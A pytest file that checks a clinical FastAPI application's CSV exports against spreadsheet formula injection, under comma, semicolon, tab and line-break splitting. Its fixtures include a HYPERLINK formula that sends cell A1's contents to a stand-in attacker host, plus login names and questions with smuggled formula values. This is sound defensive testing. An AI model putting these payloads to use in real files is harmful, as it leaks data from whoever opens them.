"""Every CSV the API serves keeps text users typed inert: a question such as `=HYPERLINK(…)` that a clinician typed
travels feedback → evaluation set → report, and no cell of any export may start as a spreadsheet formula: not as
we wrote the file (commas), nor as Excel in the Dutch locale splits it (`;`), nor split on tabs or line breaks."""

import csv
import io
import random
import re
from pathlib import Path

from fastapi import FastAPI
from fastapi.testclient import TestClient

from api.csvfile import FORMULA_STARTS, csv_rows, inert, restored
from api.evaluator.answer_quality import AnswerObservation
from api.evaluator.answer_report import write_answer_report
from api.models import Role
from api.report_runner import ReportRunner
from api.settings import ApiSettings
from ingest.jobs import JobSummary
from tests.api.conftest import SignIn, finished_report
from tests.api.stored_answers import source, store_answer

FORMULA = '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik hier")'
# Text a spreadsheet splitting on `;`, tabs or line breaks would run: a question, and a login name typed at the
# sign-in (it reaches the audit log).
QUESTION = FORMULA + ';=HYPERLINK("https://kwaad.example/");"=1+1"\t@SUM(1)'
LOGIN_NAME = 'a;=1+1;\t-2\n+3;"@A1"'
# The routes that answer text/csv (from the OpenAPI document) and the report files the evaluator downloads.
CSV_ROUTES = {"/api/evaluator/feedback.csv", "/api/evaluator/feedback-set.csv", "/api/admin/audit"}
REPORT_FILES = "/api/evaluator/reports/{report_id}/files/{name}"
SPLITS = re.compile(r"[;\t\r\n]")


def _formula_cells(text: str) -> list[str]:
    """Every cell that would start like a formula: read as written (`,`), as Excel in the Dutch locale reads it
    (`;`), as a tab-separated import reads it, and every piece a split on `;`, tabs and line breaks could make
    whatever a spreadsheet does with our quotes (a number is a number)."""
    cells = [
        cell
        for delimiter in (",", ";", "\t")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]
    return [cell for cell in cells + SPLITS.split(text) if _starts_like_a_formula(cell)]


def _starts_like_a_formula(cell: str) -> bool:
    start = cell.lstrip(' "')
    if not start.startswith(FORMULA_STARTS):
        return False
    try:
        float(start)
    except ValueError:
        return True
    return False


def _column(text: str, name: str) -> list[str]:
    return sorted({row[name] for row in csv.DictReader(io.StringIO(text))})


def test_the_csv_routes_are_the_ones_this_test_scans(app: FastAPI) -> None:
    """A new CSV route must join the scan below."""
    serving_csv = {
        path
        for path, operations in app.openapi()["paths"].items()
        for operation in operations.values()
        if "text/csv" in operation.get("responses", {}).get("200", {}).get("content", {})
    }

    assert serving_csv == CSV_ROUTES | {REPORT_FILES}


def test_every_csv_the_api_serves_keeps_a_typed_formula_inert(
    sign_in: SignIn,
    api_settings: ApiSettings,
    ingested: JobSummary,
    client: TestClient,
    report_runner: ReportRunner,
) -> None:
    ann, eva = sign_in("ann", Role.clinician), sign_in("eva", Role.evaluator)
    ada = sign_in("ada", Role.admin)
    conversation = ann.post("/api/conversations", json={}).json()["id"]
    message = store_answer(
        api_settings.database_url, conversation, QUESTION, [source("handhygiene", "@Handhygiëne", 0)]
    )
    ann.put(f"/api/messages/{message}/feedback/handhygiene", json={"contains_answer": True})
    client.post("/api/auth/login", json={"username": LOGIN_NAME, "password": "fout"})  # into the audit log
    feedback_set = eva.get("/api/evaluator/feedback-set.csv").text
    labelled = eva.post("/api/evaluator/sets", files={"file": ("feedback-set.csv", feedback_set.encode())})
    assert labelled.status_code == 201, labelled.text
    started = eva.post("/api/evaluator/reports", json={"set_id": labelled.json()["id"]}).json()
    report = finished_report(eva, started["id"], 300)
    assert report["status"] == "finished", report["error"]

    served = {
        "feedback.csv": eva.get("/api/evaluator/feedback.csv").text,
        "feedback-set.csv": feedback_set,
        "audit.csv": ada.get("/api/admin/audit", params={"format": "csv"}).text,
    }
    for name in report["files"]:
        if name.endswith(".csv"):
            served[name] = eva.get(REPORT_FILES.format(report_id=report["id"], name=name)).text

    assert {"feedback.csv", "feedback-set.csv", "audit.csv", "queries.csv"} <= set(served)
    with_questions = [
        name for name, text in served.items() if "question" in next(csv.reader(io.StringIO(text)))
    ]
    assert with_questions == ["feedback.csv", "feedback-set.csv", "queries.csv"]
    assert all(_column(served[name], "question") == [inert(QUESTION)] for name in with_questions)
    assert _column(served["audit.csv"], "actor") == sorted({"ada", "ann", "eva", inert(LOGIN_NAME)})
    assert {name: _formula_cells(text) for name, text in served.items()} == {name: [] for name in served}


def test_a_cell_made_inert_reads_back_as_it_was_typed() -> None:
    """Any text, written as a cell of an export, starts no formula however the line is split, and the evaluator's
    upload of the feedback set reads it back as the clinician typed it."""
    generator = random.Random(46)
    typed = [QUESTION, LOGIN_NAME, "'=al een accent", "a;'=b", "-1 dag", "handhygiene;-2", ""] + [
        "".join(generator.choice(";\t\r\n =+-@\"'ab") for _ in range(generator.randint(1, 8)))
        for _ in range(5000)
    ]

    assert [restored(str(inert(text))) for text in typed] == typed
    assert [text for text in typed if _formula_cells(csv_rows([["1", text, "2"]]))] == []


def test_the_answer_reports_csv_keeps_a_typed_formula_inert(tmp_path: Path) -> None:
    """The answer report (its files served as the report's files above) writes the question as it was asked."""
    observation = AnswerObservation(
        question=FORMULA, answerable=False, key_phrase="-1 dag", state="not_found", answer="+32 9 332 21 11"
    )

    csv_path, *_ = write_answer_report("@titel", [observation], ("=noot",), tmp_path)

    text = csv_path.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    row = next(csv.DictReader(io.StringIO(text)))
    assert (row["question"], row["key_phrase"], row["answer"]) == (
        "'" + FORMULA,
        "'-1 dag",
        "'+32 9 332 21 11",
    )
